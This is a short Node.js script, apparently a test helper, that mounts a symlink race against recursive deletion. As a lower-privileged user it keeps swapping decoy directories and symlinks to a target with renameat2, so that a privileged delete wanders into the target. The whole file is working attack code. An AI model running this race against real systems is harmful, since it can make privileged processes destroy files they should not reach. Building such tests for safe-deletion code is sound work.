// Attacks whoever looks at a name before deleting it. As USER, in the place of each NAME, it exchanges a folder and a
// symbolic link to TARGET, renameat2(2), until it is killed. Prints "ready" once it does. The folder has files of the same
// names as TARGET, so that a walk through it may go on in TARGET at any moment.
const fs = require('node:fs');
const koffi = require('koffi');

const [user, target, ...names] = process.argv.slice(2);
const files = fs.readdirSync(target);
const AT_FDCWD = -100;
const RENAME_EXCHANGE = 2;
const renameat2 = koffi.load(null).func('int renameat2(int, str, int, str, unsigned int)');

process.setgroups([]);
process.setgid(Number(user));
process.setuid(Number(user));

function begin(name) {
  for (const path of [name, `${name}.other`]) fs.rmSync(path, { recursive: true, force: true });
  fs.mkdirSync(name);
  for (const file of files) fs.writeFileSync(`${name}/${file}`, '');
  fs.symlinkSync(target, `${name}.other`);
}

for (const name of names) begin(name);
console.log('ready');
for (;;) {
  for (const name of names) {
    if (renameat2(AT_FDCWD, name, AT_FDCWD, `${name}.other`, RENAME_EXCHANGE) !== 0) begin(name);
  }
}
